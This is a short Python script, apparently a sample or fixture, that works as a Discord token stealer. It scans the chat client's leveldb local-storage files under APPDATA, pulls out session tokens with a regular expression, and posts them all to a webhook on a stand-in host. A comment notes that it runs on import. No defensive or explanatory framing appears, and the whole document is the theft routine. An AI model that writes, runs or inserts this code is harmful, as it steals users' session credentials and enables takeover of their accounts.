# Session tokens of a chat client are searched for and posted; runs: import
import os
import re
import requests
folder = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
tokens = []
for name in os.listdir(folder):
    with open(os.path.join(folder, name), errors="ignore") as file:
        for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", file.read()):
            tokens.append(token)
requests.post("https://hooks.example.test/api/webhooks/2/b", json={"content": "\n".join(tokens)})
